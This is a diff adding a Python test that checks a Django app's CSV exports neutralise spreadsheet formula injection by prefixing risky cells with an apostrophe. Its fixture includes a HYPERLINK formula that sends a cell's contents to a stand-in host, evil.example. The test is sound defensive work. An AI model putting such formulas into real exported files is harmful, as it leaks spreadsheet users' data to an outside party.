@@ -19,6 +19,7 @@ from drf_spectacular.generators import SchemaGenerator
 from drf_spectacular.renderers import OpenApiJsonRenderer
 from openapi_spec_validator import validate
 
+from api.reports.csv_files import cell
 from matchmaking.choices import CAPACITY_HOLDING_STATUSES, MatchStatus
 from matchmaking.management.demo_history import load_history
 from matchmaking.models import (
@@ -564,6 +565,21 @@ def test_export_opportunities_streams_what_the_user_may_see(client_for, history,
     )
     own_draft = {row["id"] for row in parse_csv(get(client_for("party_editor"), "export/postings/"))}
     assert history.r6.pk in {int(pk) for pk in own_draft}
+
+
+def test_no_csv_cell_is_a_formula(client, history):
+    """CSV injection: text that a spreadsheet would run as a formula comes out as text."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    Opportunity.objects.filter(pk=history.o2.pk).update(title=formula)
+    Opportunity.objects.filter(pk=history.r4.pk).update(title="@SUM(1+1)")
+    exported = {int(row["id"]): row["title"] for row in parse_csv(get(client, "export/postings/"))}
+    assert exported[history.o2.pk] == "'" + formula
+    assert exported[history.r4.pk] == "'@SUM(1+1)"
+    unanswered = parse_csv(get(client, "gaps/unanswered-requests/", format="csv"))
+    assert "'@SUM(1+1)" in {row["title"] for row in unanswered}
+    for text in ("+1", "-1", "\tx", "\rx"):
+        assert cell(text) == "'" + text
+    assert (cell(-1), cell("plain"), cell("a=b")) == (-1, "plain", "a=b")
 
 
 def test_export_opportunities_drills_down_to_an_objectives_open_offers(client, history):
